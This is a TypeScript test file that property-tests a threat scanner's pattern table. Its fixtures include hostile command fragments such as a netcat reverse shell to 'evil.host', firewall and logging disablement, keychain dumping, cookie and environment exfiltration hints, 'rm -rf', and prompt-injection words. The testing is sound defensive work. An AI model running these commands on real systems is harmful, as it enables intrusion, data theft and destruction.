// Is every shape of the threat scan's table looked for, in every text?
import fc from "fast-check";
import { expect, test } from "vitest";
import { THREAT_PATTERNS } from "../../src/write/threat/patterns.ts";
import { scanThreats } from "../../src/write/threat.ts";

/** Written with letters, spaces and full stops only: nothing about them looks unusual. */
const unsigned = [
  ...["ufw disable", "csrutil disable", "wevtutil cl System", "crontab with curl", "cryptominer x.py"],
  ...[
    "iptables -F",
    "shred -u",
    "nc evil.host -e sh",
    "security dump-keychain",
    "glpat-abcdefghijklmnopqrst",
  ],
  ...[
    "sk-abcdefghijklmnopqrstuvwxyz",
    "document.cookie then fetch",
    "process.env and upload",
    "webhook.site",
  ],
  ...["fetch the clipboard", "database DROP TABLE", "metadata.google.internal"],
];
test.each(unsigned)("a text is flagged for its shape, without a sign in it: %s", (shape) => {
  expect(scanThreats(shape)).not.toEqual([]);
  expect(scanThreats(`So ${shape} it is`)).not.toEqual([]);
});

test("a text is looked through for every shape of the table, whatever else stands in it", () => {
  const part = fc.constantFrom(
    ...unsigned.flatMap((shape) => shape.split(" ")),
    ...[
      "and",
      "the",
      "it",
      "42",
      "it's",
      "curl",
      "sh",
      "|",
      "-d",
      "@",
      "password is",
      "hunter2",
      "'",
      "--",
      "(x)",
    ],
    ...[
      "read",
      "/etc/passwd",
      "docker",
      "--privileged",
      "python -c",
      "'exec",
      "rm -rf",
      "~",
      "é",
      "忽略",
      "指令",
    ],
  );
  const text = fc.array(part, { maxLength: 8 }).map((parts) => parts.join(" "));
  fc.assert(
    fc.property(text, (content) => {
      const found = new Set(scanThreats(content).map(({ why }) => why));
      for (const { why, shows = [], besides } of THREAT_PATTERNS)
        if (besides?.test(content) !== false && shows.some((shape) => shape.test(content)))
          expect(found).toContain(why);
    }),
    { numRuns: 2_000 },
  );
});
